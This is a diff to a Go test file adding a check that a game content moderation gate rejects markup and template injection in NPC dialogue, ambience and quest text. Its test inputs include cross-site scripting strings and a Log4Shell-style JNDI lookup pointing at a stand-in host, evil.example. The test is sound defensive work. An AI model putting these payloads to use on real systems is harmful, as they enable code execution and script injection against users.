@@ -648,3 +648,32 @@ func TestApprovalDecisionsThatCannotBeAppliedAreDeadLettered(t *testing.T) {
 		t.Fatalf("%d proposals moved", n)
 	}
 }
+
+// Markup and template injections are a safety category: refused (never rewritten) in every
+// content kind's text, with the policy version in the refusal.
+func TestSafetyGateRefusesMarkup(t *testing.T) {
+	s := newStack(t)
+	s.run(t, s.deps(testConfig()), "safety")
+	var bad []*events.Proposal
+	for i, m := range []string{`<script>alert(1)</script>`, `javascript:alert(1)`, `{{7*7}}`, `${jndi:ldap://evil.example/a}`, `<img src=x onerror=alert(1)>`, `<iframe src="//evil.example"></iframe>`} {
+		var p *events.Proposal
+		switch i % 3 {
+		case 0:
+			p = ambience(t, "loc:square", "Lanterns sway. "+m)
+		case 1:
+			p = proposal(t, events.KindNPCDialogue, map[string]any{"npcId": "npc:bram", "playerId": "player:ada", "locationId": "loc:square", "line": "Welcome, " + m, "intent": "greet"})
+		default:
+			p = proposal(t, events.KindQuestSeed, map[string]any{"locationId": "loc:square", "title": "The lost cat", "hook": "Find the cat " + m, "objectives": []string{"search the square"}})
+		}
+		p = startAt(p, "safety")
+		bad = append(bad, p)
+		s.publish(t, p)
+	}
+	for _, p := range bad {
+		r := s.waitRejected(t, p.ProposalID)
+		if r.Code != events.CodeSafetyFlagged || !slices.Contains(toStrings(r.Details["categories"]), "markup_injection") ||
+			!strings.Contains(r.Reason, "worldgate-moderation-2.0.0") || r.Details["policyVersion"] != "worldgate-moderation-2.0.0" {
+			t.Errorf("%s: rejection %+v", p.Kind, r)
+		}
+	}
+}
